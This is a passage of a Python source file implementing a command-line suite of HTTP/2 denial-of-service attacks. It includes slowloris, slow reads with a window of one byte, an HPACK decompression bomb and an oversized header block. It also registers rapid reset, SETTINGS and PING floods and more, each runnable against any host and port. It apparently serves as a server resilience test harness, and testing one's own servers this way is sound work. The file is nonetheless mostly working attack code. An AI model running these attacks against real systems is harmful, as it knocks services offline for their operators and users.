            wire = attack.connect({SettingsFrame.INITIAL_WINDOW_SIZE: 0})
            wire.give_window = False
            frames: list[Frame] = []
            for _ in range(streams):
                stream_id = wire.new_stream()
                frames += header_frames(stream_id, wire.head_block(REFLECTION_PATH))
                wire.pending[stream_id] = PendingBody(body)
            wire.queue(frames, streams=streams)
        attack.flood(lambda wire: wire.push_data())
        attack.hold()
        return attack.result()


def slowloris(
    host: str, port: int, duration: float, *, connections: int = 40, drip_s: float = 1.0
) -> AttackResult:
    """`connections` connections sending one byte every `drip_s`: half of them the preface,
    half (after a complete preface and SETTINGS) a 1,000-byte HEADERS frame."""
    with Attack("slowloris", host, port, duration) as attack:
        scripts: dict[Wire, bytes] = {}
        for n in range(connections):
            wire = Wire(host, port)
            attack.wires.append(wire)
            if n % 2:
                wire.handshake()
                head = literal_head(wire.authority)
                block = head + literal_field(b"x-slow", b"s" * (1000 - len(head) - 9))
                scripts[wire] = HeadersFrame(1, data=block, flags=["END_HEADERS"]).serialize()
            else:
                scripts[wire] = PREFACE
        offset = 0
        while attack.running and offset < max(len(s) for s in scripts.values()):
            for wire, script in scripts.items():
                if not wire.closed and offset < len(script):
                    wire.queue(raw=script[offset : offset + 1])
            offset += 1
            tick_end = min(attack.deadline, time.monotonic() + drip_s)
            while time.monotonic() < tick_end:
                pump_all([w for w in attack.wires if not w.closed], 0.05)
        attack.hold()
        return attack.result()


def slow_reads_window_1(
    host: str,
    port: int,
    duration: float,
    *,
    connections: int = 4,
    calls: int = 3_000,
    read_every_s: float = 0.01,
) -> AttackResult:
    """SETTINGS_INITIAL_WINDOW_SIZE=1, the connection window never given back, a small
    receive buffer, `calls` complete calls per connection, and the answers read one byte at a
    time, every `read_every_s`."""
    with Attack("slow_reads_window_1", host, port, duration) as attack:
        body = grpc_message(rate_limit_request())
        for _ in range(connections):
            wire = Wire(host, port, rcvbuf=4096)
            attack.wires.append(wire)
            wire.handshake({SettingsFrame.INITIAL_WINDOW_SIZE: 1})
            wire.give_window = False

        def fill(wire: Wire) -> bool:
            opened = wire.next_stream_id // 2
            if opened >= calls:
                return False
            frames: list[Frame] = []
            for _ in range(min(100, calls - opened)):
                stream_id = wire.new_stream()
                frames += header_frames(stream_id, wire.head_block())
                frames.append(DataFrame(stream_id, data=body, flags=["END_STREAM"]))
            wire.queue(frames, streams=len(frames) // 2)
            return True

        next_read = time.monotonic()
        while attack.running:
            live = [w for w in attack.wires if not w.closed]
            if not live:
                break
            for wire in live:
                if len(wire.out) < HIGH_WATER:
                    fill(wire)
            pump_all(live, POLL_S, read=False)
            if time.monotonic() >= next_read:
                for wire in live:
                    wire.receive(1, rounds=1)
                next_read = time.monotonic() + read_every_s
        return attack.result()


def hpack_bomb(
    host: str,
    port: int,
    duration: float,
    *,
    value_size: int = 4_000,
    references: int = 10_000,
    max_streams: int = 20_000,
) -> AttackResult:
    """One ~4 KiB field put into the HPACK table, then referenced `references` times per
    header block (one byte each): ~40 MB decoded from ~10 KB, on one new stream after another."""
    with Attack("hpack_bomb", host, port, duration) as attack:
        bomb = literal_field(b"x-bomb", b"b" * value_size, indexing=True)  # dynamic index 62
        references_block = indexed_field(62) * references

        def fill(wire: Wire) -> bool:
            if attack.streams_queued >= max_streams:
                return False
            first = wire.next_stream_id == 1  # the bomb enters this connection's table
            block = literal_head(wire.authority) + (bomb if first else b"") + references_block
            wire.queue(header_frames(wire.new_stream(), block), streams=1)
            return True

        attack.flood_one(lambda wire: None, fill)
        return attack.result()


def huge_header_block(
    host: str,
    port: int,
    duration: float,
    *,
    size: int = 16 * 1024 * 1024,
    max_bytes: int = 256 * 1024 * 1024,
) -> AttackResult:
    """One header block of `size` bytes (a valid one: the request head and one huge literal),
    in a HEADERS and then CONTINUATION frames; again on a new connection when the server
    closes one (`max_bytes` in all)."""
    with Attack("huge_header_block", host, port, duration) as attack:
        name = b"x-huge"
        frames: dict[Wire, list[Frame]] = {}

        def setup(wire: Wire) -> None:
            for closed in [w for w in frames if w.closed]:
                del frames[closed]  # what the server never took
            head = literal_head(wire.authority)
            value_size = size - len(head) - 1 - len(hpack_string(name)) - 5
            block = head + b"\x10" + hpack_string(name) + hpack_integer(value_size, 7)
            block += b"h" * (size - len(block))
            frames[wire] = header_frames(wire.new_stream(), block)

        def fill(wire: Wire) -> bool:
            left = frames[wire]
            if not left or sum(w.queued for w in attack.wires) >= max_bytes:
                return False
            opens = isinstance(left[0], HeadersFrame)
            wire.queue(left[:16], streams=int(opens))
            del left[:16]
            return True

        attack.flood_one(setup, fill)
        attack.hold()
        return attack.result()


Attacker = Callable[[str, int, float], AttackResult]
ATTACKS: dict[str, Attacker] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        empty_continuation,
        empty_data,
        settings_flood,
        ping_flood,
        empty_header_names,
        window_pingpong,
        large_decoded_headers,
        idle_cached_blocks,
        unended_bodies,
        reflection_zero_window,
        slowloris,
        slow_reads_window_1,
        hpack_bomb,
        huge_header_block,
    )
}


def run(name: str, host: str, port: int, duration: float) -> AttackResult:
    """Runs one attack by name; a failure of the attack itself is in the result's `error`."""
    try:
        return ATTACKS[name](host, port, duration)
    except Exception as exc:
        return AttackResult(attack=name, error=f"{type(exc).__name__}: {exc}")


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--duration", type=float, default=2.0, help="seconds (default 2)")
    parser.add_argument("--nice", type=int, default=0, help="lower our priority by this much")
    args = parser.parse_args(argv)
    if args.nice:
        os.nice(args.nice)
    result = run(args.attack, args.host, args.port, args.duration)
    print(json.dumps(asdict(result)))
    return 1 if result.error else 0


if __name__ == "__main__":
    sys.exit(main())
